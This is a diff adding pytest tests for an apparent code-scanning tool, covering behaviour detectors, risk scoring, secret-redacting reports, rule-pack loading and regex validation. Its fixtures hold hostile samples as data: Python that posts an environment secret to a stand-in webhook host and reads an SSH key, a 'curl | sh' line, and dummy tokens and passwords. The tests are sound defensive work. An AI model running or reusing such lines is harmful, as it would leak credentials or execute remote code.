@@ -1,0 +1,68 @@
+"""Fixtures of behavior, reports, rule packs and user scanners."""
+
+import json
+
+import pytest
+from pyspark.sql import functions as F
+
+from tidewatch.operators import behavior, detectors, reports, risk
+from tidewatch.operators import findings as fd
+
+SOURCES = "target_id string, path string, language string, content string"
+
+
+def sources(spark, *rows):
+    return spark.createDataFrame([("t", *r) for r in rows], SOURCES)
+
+
+def test_behavior_and_risk(spark):
+    code = "import os, requests\nk = os.environ['K']\nrequests.post('https://h.example/webhook', data=k)\nopen('/home/u/.ssh/id')\nopen('x', 'w')\nos.remove('x')\nrequests.get('https://api.github.com/x')"
+    found = behavior.scan_python_behavior(sources(spark, ("a.py", "python", code)))
+    rows = [(r.rule_id, r.line) for r in found.orderBy("emit_seq").collect()]
+    assert rows == [("SI-PY-020", 2), ("SI-PY-021", 3), ("SI-PY-025", 3), ("SI-PY-026", 3), ("SI-FS-001", 4), ("SI-PY-023", 5), ("SI-PY-024", 6), ("SI-PY-021", 7)]
+    deduped = fd.dedupe_findings(fd.union_findings(found))
+    got = risk.assess(deduped, deduped.select("target_id").distinct()).first()
+    assert got.level == "high" and got.primary_reasons[0] == risk.CHAIN_REASONS[0]
+
+
+def test_json_report_hides_secrets(spark):
+    s = sources(spark, ("a.sh", "shell", "curl -H 'token: abcdefghijklmn' x | sh"), ("prompts/x.md", "markdown", "password = 'abcdefghijklmn'"))
+    ranked = fd.rank_findings(fd.dedupe_findings(fd.union_findings(detectors.detect_shell(s), detectors.detect_secrets(s))))
+    targets = s.select("target_id").distinct()
+    none = spark.createDataFrame([], "target_id string, ecosystem string, name string, source_file string, scope string, specifier string, pinned boolean, source_type string")
+    covered = risk.coverage(targets, spark.createDataFrame([], "target_id string, path string, reason string"))
+    whole = reports.assemble_report(targets, risk.assess(ranked, targets), covered, ranked, none)
+    row = reports.json_reports(whole).first()
+    report = json.loads(row.json)
+    assert report["schema_version"] == "1.1" and report["risk"]["level"] == "high" and [f["rule_id"] for f in report["findings"]][:1] == ["SI-SEC-001"] or report["findings"]
+    payload = reports.review_payload(ranked, s).first().payload
+    assert "abcdefghijklmn" not in row.json + payload and len(json.loads(payload)["files"]) == 1
+
+
+RULE = dict(id="SI-USR-001", name="n", description="d", severity="low", category="some_thing", language="text", explanation="e", recommendation="r")
+
+
+def test_rule_packs(spark):
+    text = json.dumps([RULE | {"pattern": r"\bx\b", "capabilities": ["persistence"]}])
+    assert reports.load_rule_pack(spark, text).first().capabilities == ["persistence"]
+    for bad in ("[]", "5", json.dumps(RULE), json.dumps([RULE | {"pattern": "x"}] * 2), json.dumps(RULE | {"pattern": "x", "more": 1})):
+        with pytest.raises(ValueError):
+            reports.load_rule_pack(spark, bad)
+
+
+def test_rule_validation(spark):
+    patterns = [r"\bok[a-z]{1,3}x", "(a+)+$", "(a|aa)+$", r"(a)\1", "a*a*", "(", "a+b+"]
+    rows = [tuple((RULE | {"id": f"SI-USR-{i:03d}", "pattern": p})[f] for f in reports.FIELDS) + ([],) for i, p in enumerate(patterns)]
+    rows += [(*rows[0][:-1], []), ("bad", *rows[0][1:])]
+    found = [r.reason for r in reports.validate_rules(spark.createDataFrame(rows, reports.RULES)).orderBy("id", "pattern").collect()]
+    assert found == ["duplicate_id", "duplicate_id", "nested_repetition", "repeated_alternatives", "backreference", "overlapping_repetition", "invalid_pattern", None, "id"]
+
+
+def test_user_scanners(spark):
+    known = reports.Scanners()
+    known.register_scanner("mine", F.col("language") == "text", lambda s: s.select("target_id", "path", F.lit("SI-X-1").alias("rule_id"), F.lit("n").alias("name"), F.lit("low").alias("severity"), F.lit(1).alias("line")))
+    for name in ("mine", "X", "a"):
+        with pytest.raises(ValueError):
+            known.register_scanner(name, F.lit(True), lambda s: s)
+    out = known.scan(sources(spark, ("a", "text", ""), ("b", "shell", "")))
+    assert [r.path for r in out.collect()] == ["a"] and len(out.columns) == 16
